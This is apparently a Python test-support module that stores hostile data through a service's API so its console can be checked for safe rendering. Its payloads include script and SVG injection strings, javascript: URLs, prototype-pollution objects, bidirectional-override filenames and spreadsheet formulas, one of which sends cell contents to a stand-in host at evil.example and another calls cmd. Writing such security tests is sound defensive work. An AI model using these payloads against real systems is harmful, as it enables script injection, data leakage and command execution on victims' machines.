"""Hostile data: texts, values and names that try to run code or to load something."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

from tests.support.console import ConsoleClient
from tests.support.console_runs import send_run
from tests.support.console_webhooks import answered_webhook
from tests.support.receiver import Answer, receiver
from tests.support.service import Client

RUN = "window.hacked=1"
MARKUP = f"<img src=https://evil.example/x onerror={RUN}>"
TEXTS = (
    f"<script>{RUN}</script>",
    MARKUP,
    f'"><svg onload={RUN}>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"javascript:{RUN}",
    f" JaVaScRiPt\t:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "https://user:password@evil.example/a.png",
    "https://xn--80ak6aa92e.example/",
    "//evil.example/x.js",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200bzero",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} </script>",
    "a\nb\r\tc\x7f",
    "x" * 300_000,
    MARKUP * 2000,
    "",
    " ",
)
VNODE: dict[str, Any] = {
    "type": "script",
    "props": {"src": "https://evil.example/x.js", "dangerouslySetInnerHTML": {"__html": MARKUP}},
    "constructor": None,
    "key": None,
    "ref": None,
    "__k": [],
    "__html": MARKUP,
    "__v": 1,
}
VALUES: tuple[Any, ...] = (
    *TEXTS,
    VNODE,
    [VNODE, {"type": "iframe", "props": {"srcdoc": MARKUP}, "constructor": None}],
    {"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}, "toString": 1},
    {"then": "x", "length": -1, "toJSON": MARKUP, "hasOwnProperty": None},
    {MARKUP: 1, "y" * 5000: 2, "\u202egpj": 3, "": 4, "a.b[0]": 5},
    [[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]],
    12345678901234567890123456789,
)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode()
GROUP = f"<img src=x onerror={RUN}>..\\\u202e'\"&?#%2F"
"""A name of a group has no slash."""
JOB = f"<svg onload={RUN}><script>{RUN};\u202e"
PROFILE = "profile"


def in_path(name: str) -> str:
    return quote(name, safe="")


def store_hostile(client: Client, console: ConsoleClient) -> tuple[dict[str, str], list[str]]:
    """Stores all of it. Returns the parameters of routes, and the ids of the outputs."""
    file = _upload(client)
    outputs = [_output(number, value, file) for number, value in enumerate(VALUES)]
    group = in_path(GROUP)
    for job in (JOB, "job"):
        _send(client, f"/v1/outputs/{group}", [{**one, "job_id": job} for one in outputs])
    approved = {"job_id": JOB, "status": "approved", "comment": MARKUP}
    _send(client, f"/v1/reviews/{group}", approved)
    changed = [{**one, "job_id": JOB, "data": _changed(one["data"])} for one in outputs]
    stored = _send(client, f"/v1/outputs/{group}", changed)
    ids = [result["output_id"] for result in stored["results"]]
    _send(client, f"/v1/reviews/{group}", _review(ids[0]))
    run_id = _store_runs(client, outputs)
    _store_sessions(client)
    name = {"name": MARKUP, "scopes": ["outputs:read"], "days": None}
    _send(console, "/console/api/tokens", name)
    names = {"group": GROUP, "job": JOB, "output": ids[0], "run": run_id}
    return names | {"domain": "evil.example", "webhook": _store_webhooks(client)}, ids


def _store_runs(client: Client, outputs: list[dict[str, Any]]) -> str:
    """Stores a run whose removal of all outputs is held. Returns its id."""
    group, job = in_path(GROUP), f"{JOB} that ends"
    settings = {"display_name": MARKUP, "missing": {"after_runs": 1, "max_share": 0}}
    assert client.put(f"/v1/groups/{group}", json=settings).status_code == 200
    send_run(client, group, job, [{**one, "job_id": job} for one in outputs])
    labels = {"<script>": MARKUP, "\u202egpj": f"javascript:{RUN}", "__proto__": "constructor"}
    held = send_run(client, group, job, [], message=f"{MARKUP}\u202e\x7f", labels=labels)
    assert held["removal"] == "held"
    return str(held["run_id"])


def _store_webhooks(client: Client) -> str:
    """Stores webhooks of which one is disabled. Returns the id of the other one."""
    members = {"description": f"{MARKUP}\u202e", "groups": [GROUP, JOB]}
    body = f"{MARKUP}<script>{RUN}</script>\u202e\x7f".encode()
    with receiver() as made:
        webhook_id = answered_webhook(client, made, Answer(500, body), **members)
        answered_webhook(client, made, Answer(410, body), **members)
    return webhook_id


def _upload(client: Client) -> str:
    query = {"filename": f"{MARKUP}.svg", "source_url": "https://evil.example/a.svg", "etag": "1"}
    headers = {"Content-Type": "image/svg+xml"}
    answer = client.post("/v1/files", params=query, content=SVG, headers=headers)
    assert answer.status_code == 200, answer.text
    return str(answer.json()["id"])


def _output(number: int, value: Any, file: str) -> dict[str, Any]:
    return {
        "source_url": f"https://evil.example/{number}/{MARKUP}",
        "key": f"{number} {MARKUP}",
        "data": {
            "value": value,
            MARKUP: value,
            "type": "script",
            "constructor": f"name {number}",
            "toString": number,
            "__proto__": f"name {number}",
        },
        "tags": {"country": MARKUP[:60], "other": "javascript:hacked=1", "__proto__": MARKUP},
        "files": [
            {"field": MARKUP, "id": file},
            {
                "field": "value",
                "source_url": f"javascript:{RUN}",
                "file_url": f"javascript:{RUN}",
                "file_type": "image/svg+xml",
            },
        ],
    }


def _changed(data: dict[str, Any]) -> dict[str, Any]:
    return {**data, "value": [data["value"], VNODE], f"new {MARKUP}": VNODE}


def _review(output_id: str) -> dict[str, Any]:
    finding = {"output_id": output_id, "path": MARKUP, "note": f"<script>{RUN}</script>"}
    return {
        "job_id": JOB,
        "status": "changes_requested",
        "comment": f"javascript:{RUN} {MARKUP} \u202e",
        "findings": [finding],
    }


def _store_sessions(client: Client) -> None:
    cookie = {"domain": "evil.example", "name": "<script>hacked=1</script>", "value": MARKUP}
    _send(client, "/v1/cookies", [cookie])
    entry = {"domain": "evil.example", "key": MARKUP + "\u202e" + "k" * 1000, "value": MARKUP}
    _send(client, "/v1/local-storage", [entry])
    lease = {"domain": "evil.example", "seconds": 3600, "holder": MARKUP}
    _send(client, "/v1/sessions/leases", lease)


def _send(client: Client | ConsoleClient, path: str, body: Any) -> Any:
    answer = client.post(path, json=body)
    assert answer.is_success, answer.text
    return answer.json()
